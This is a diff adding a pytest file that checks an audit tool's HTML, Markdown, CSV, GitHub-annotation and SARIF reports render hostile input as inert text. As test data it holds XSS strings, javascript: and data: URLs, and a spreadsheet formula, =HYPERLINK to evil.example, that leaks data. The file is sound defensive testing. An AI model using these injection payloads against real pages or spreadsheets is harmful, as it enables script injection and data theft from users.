@@ -1,0 +1,194 @@
+"""Hostile titles, URLs and text must come out of every format as inert text."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from pathlib import Path
+
+import jsonschema
+import pytest
+from markdown_it import MarkdownIt
+
+from audits.document import RunAudit
+from audits.reports import get_reporter
+from audits.reports.csv_report import neutralise
+from audits.reports.github_report import escape_data, escape_property
+from audits.reports.html_report import safe_href
+from audits.reports.markdown_report import md_code, md_text
+from audits.reports.model import run_to_dict
+from tests.html_tree import parse
+from tests.report_fixtures import HOSTILE_TITLE, hostile_audit, sample_run
+
+FIXTURES = Path(__file__).parent / "fixtures"
+
+
+@pytest.fixture(scope="module")
+def run() -> RunAudit:
+    return sample_run(extra=[hostile_audit()])
+
+
+@pytest.fixture(scope="module")
+def hostile(run: RunAudit) -> dict:
+    return run_to_dict(run)["documents"][1]
+
+
+def test_html_keeps_hostile_input_as_text(run: RunAudit, hostile: dict) -> None:
+    page = get_reporter("html").render(run)
+    root, errors = parse(page)
+    assert errors == []
+    assert len(root.find_all("script")) == 1  # ours only
+    for tag in ("img", "svg", "iframe", "object"):
+        assert root.find_all(tag) == []
+    for node in root.walk():
+        assert not any(name.startswith("on") for name in node.attrs), node
+    for bad in ("<script>alert", "<img src=x", "<svg onload", '"><svg'):
+        assert bad not in page
+    section = root.by_id("doc-2")
+    assert section.find_all("h2")[0].text() == HOSTILE_TITLE  # shown, not run
+    # A javascript: URL is shown but never becomes a link.
+    hrefs = [a.attrs.get("href", "") for a in root.find_all("a")]
+    assert not any(h.lower().startswith("javascript") for h in hrefs)
+    assert hostile["url"] in section.text()
+    # Attributes hold the hostile text verbatim (the parser unescapes it back).
+    marks = section.find_all("a", "hl")
+    assert any("<b>bold</b>" in m.attrs["title"] for m in marks)
+    highlighted = "".join(m.text() for m in marks)
+    assert "<script>alert('xss')</script>" in highlighted
+    assert '=HYPERLINK("http://evil.example/?leak","click me")' in highlighted
+
+
+@pytest.mark.parametrize(
+    "url, link",
+    [
+        ("https://example.org/a?b=1&c=2", True),
+        ("http://example.org", True),
+        ("javascript:alert(1)", False),
+        (" JavaScript:alert(1)", False),
+        ("data:text/html,<script>x</script>", False),
+        ("vbscript:x", False),
+        ("//evil.example", False),
+        ("", False),
+    ],
+)
+def test_only_web_urls_become_links(url: str, link: bool) -> None:
+    assert (safe_href(url) is not None) == link
+
+
+def test_markdown_renders_hostile_text_literally(run: RunAudit, hostile: dict) -> None:
+    md = get_reporter("markdown").render(run)
+    html = MarkdownIt("commonmark", {"html": True}).enable("table").render(md)
+    root, _ = parse(html)
+    for tag in ("script", "img", "svg"):
+        assert root.find_all(tag) == [], tag
+    text = root.text()
+    assert HOSTILE_TITLE in text
+    # Nobody is pinged: GitHub never looks for mentions in code spans, and elsewhere
+    # a zero-width space follows the @.
+    prose = _text_outside_code(root)
+    assert "@everyone" not in prose and "@\u200beveryone" in prose
+    # Every table row keeps its four columns despite the pipes in the text.
+    for table in root.find_all("table"):
+        widths = {len(tr.find_all("td")) or len(tr.find_all("th")) for tr in table.find_all("tr")}
+        assert len(widths) == 1
+    codes = [c.text() for c in root.find_all("code")]
+    assert "100% sure, a | b, c:d" in codes
+
+
+def _text_outside_code(node) -> str:
+    if node.tag == "code":
+        return ""
+    return "".join(c if isinstance(c, str) else _text_outside_code(c) for c in node.children)
+
+
+@pytest.mark.parametrize(
+    "value",
+    ["a*b*", "_x_", "[link](http://e)", "<b>", "`tick`", "a | b", "# h", "~~s~~", "x\ny", "@a"],
+)
+def test_md_text_round_trips_through_a_markdown_renderer(value: str) -> None:
+    html = MarkdownIt("commonmark", {"html": True}).renderInline(md_text(value))
+    root, _ = parse(html)
+    assert [n.tag for n in root.walk()] == ["#document"]  # no markup at all
+    assert root.text().replace("\u200b", "") == value.replace("\n", " ")
+
+
+def test_md_code_holds_backticks() -> None:
+    html = MarkdownIt("commonmark").renderInline(md_code("a ``b`` c", table=False))
+    root, _ = parse(html)
+    assert root.find_all("code")[0].text() == "a ``b`` c"
+
+
+def test_csv_neutralises_formulas(run: RunAudit) -> None:
+    text = get_reporter("csv").render(run)
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    header, body = rows[0], rows[1:]
+    for row in body:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    hostile = [dict(zip(header, r, strict=True)) for r in body if r[0].startswith("feed.jsonl")]
+    by_code = {r["code"]: r for r in hostile}
+    assert by_code["C201"]["text"] == '\'=HYPERLINK("http://evil.example/?leak","click me")'
+    assert by_code["C201"]["message"] == "'=SUM(A1:A9)"
+    assert by_code["N302"]["text"] == "'@everyone"
+    assert by_code["S503"]["message"] == "'-2+3 <img src=y>"
+    assert by_code["S502"]["message"] == "Injected markup <b>bold</b> & more\nline two"
+    assert all(r["suggestion"] == "'+1 |x|" for r in hostile)
+
+
+@pytest.mark.parametrize(
+    "value, expected",
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("a=1", "a=1"),
+        (-0.5, -0.5),
+        (3, 3),
+        (None, ""),
+    ],
+)
+def test_neutralise(value: object, expected: object) -> None:
+    assert neutralise(value) == expected
+
+
+def _unescape(value: str) -> str:
+    for code, char in (("%3A", ":"), ("%2C", ","), ("%0D", "\r"), ("%0A", "\n"), ("%25", "%")):
+        value = value.replace(code, char)
+    return value
+
+
+def test_github_annotations_escape_newlines_percent_and_separators(
+    run: RunAudit, hostile: dict
+) -> None:
+    text = get_reporter("github").render(run)
+    lines = text.split("\n")
+    assert lines[-1] == ""
+    for line in lines[:-1]:
+        assert line.startswith("::") and "\r" not in line
+    mine = [ln for ln in lines if "feed.jsonl" in ln]
+    assert len(mine) == len(hostile["findings"]) + 1  # the findings and the verdict
+    messages = []
+    for line in mine:
+        head, _, message = line[2:].partition("::")
+        _, _, props = head.partition(" ")
+        pairs = dict(p.split("=", 1) for p in props.split(","))
+        assert _unescape(pairs["file"]) == hostile["source"]
+        messages.append(_unescape(message))
+    for f in hostile["findings"]:
+        assert any(f["message"] in m for m in messages), f["message"]
+    assert escape_data("100%\r\nok") == "100%25%0D%0Aok"
+    assert escape_property("a:b,c%") == "a%3Ab%2Cc%25"
+
+
+def test_sarif_and_jsonl_round_trip_hostile_text(run: RunAudit, hostile: dict) -> None:
+    log = json.loads(get_reporter("sarif").render(run))
+    schema = json.loads((FIXTURES / "sarif-schema-2.1.0.json").read_text(encoding="utf-8"))
+    jsonschema.validate(log, schema, cls=jsonschema.Draft4Validator)
+    texts = {r["properties"]["text"] for r in log["runs"][0]["results"]}
+    assert {f["text"] for f in hostile["findings"]} <= texts
+    lines = get_reporter("jsonl").render(run).split("\n")
+    assert json.loads(lines[1])["title"] == HOSTILE_TITLE
